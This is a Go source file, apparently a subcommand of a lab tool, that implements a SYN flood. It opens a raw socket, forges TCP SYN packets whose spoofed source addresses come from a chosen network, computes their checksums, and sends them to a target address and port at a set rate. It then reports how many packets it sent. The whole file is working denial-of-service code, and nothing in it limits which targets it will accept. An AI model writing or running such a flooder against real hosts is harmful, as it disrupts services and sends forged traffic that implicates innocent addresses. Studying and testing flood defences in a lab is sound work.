package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// floodReport is what `labtool synflood` prints.
type floodReport struct {
	Sent    int     `json:"sent"`
	Seconds float64 `json:"seconds"`
}

// floodTick is the time between two bursts.
const floodTick = 5 * time.Millisecond

// synflood begins connections that it never completes. No machine has the source addresses, so the answers get no answer.
func synflood(arguments []string) error {
	flags := flag.NewFlagSet("synflood", flag.ExitOnError)
	var until bound
	until.flags(flags)
	aim := flags.String("target", "", "IPv4 address:port")
	sources := flags.String("sources", "", "network of the source addresses")
	rate := flags.Int("rate", 1000, "packets a second")
	_ = flags.Parse(arguments)
	to, err := netip.ParseAddrPort(*aim)
	if err != nil {
		return err
	}
	from, err := netip.ParsePrefix(*sources)
	if err != nil || !to.Addr().Is4() || !from.Addr().Is4() || from.Bits() > 30 {
		return errors.Join(errors.New("expected IPv4, and a network of four addresses or more"), err)
	}
	socket, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer unix.Close(socket)
	ctx, cancel := until.context()
	defer cancel()
	report, begun := floodReport{}, time.Now()
	for ctx.Err() == nil {
		for due := int(time.Since(begun).Seconds() * float64(*rate)); report.Sent < due; report.Sent++ {
			packet := synPacket(netip.AddrPortFrom(anyOf(from), uint16(1024+rand.IntN(64_000))), to, rand.Uint32())
			if err := unix.Sendto(socket, packet, 0, &unix.SockaddrInet4{Addr: to.Addr().As4()}); err != nil {
				return err
			}
		}
		time.Sleep(floodTick)
	}
	report.Seconds = time.Since(begun).Seconds()
	return printJSON(report)
}

// anyOf returns an address of a network, but never its first or last one.
func anyOf(network netip.Prefix) netip.Addr {
	first := binary.BigEndian.Uint32(network.Masked().Addr().AsSlice())
	size := 1 << (32 - network.Bits())
	var some [4]byte
	binary.BigEndian.PutUint32(some[:], first+1+uint32(rand.IntN(size-2)))
	return netip.AddrFrom4(some)
}

// synPacket is an IPv4 packet with a TCP SYN. The kernel adds the checksum of the IP header.
func synPacket(from, to netip.AddrPort, sequence uint32) []byte {
	source, target := from.Addr().As4(), to.Addr().As4()
	segment := make([]byte, 24)
	binary.BigEndian.PutUint16(segment[0:], from.Port())
	binary.BigEndian.PutUint16(segment[2:], to.Port())
	binary.BigEndian.PutUint32(segment[4:], sequence)
	segment[12], segment[13] = 6<<4, 2               // six words of header; SYN
	binary.BigEndian.PutUint16(segment[14:], 64_240) // window
	copy(segment[20:], []byte{2, 4, 0x05, 0xb4})     // largest segment: 1460 bytes
	pseudo := append(append(append([]byte{}, source[:]...), target[:]...), 0, unix.IPPROTO_TCP, 0, byte(len(segment)))
	binary.BigEndian.PutUint16(segment[16:], checksum(append(pseudo, segment...)))
	header := make([]byte, 20)
	header[0], header[8], header[9] = 4<<4|5, 64, unix.IPPROTO_TCP // five words of header; time to live
	binary.BigEndian.PutUint16(header[2:], uint16(len(header)+len(segment)))
	copy(header[12:], source[:])
	copy(header[16:], target[:])
	return append(header, segment...)
}

// checksum is that of RFC 1071, over an even number of bytes.
func checksum(some []byte) uint16 {
	sum := uint32(0)
	for i := 0; i < len(some); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(some[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
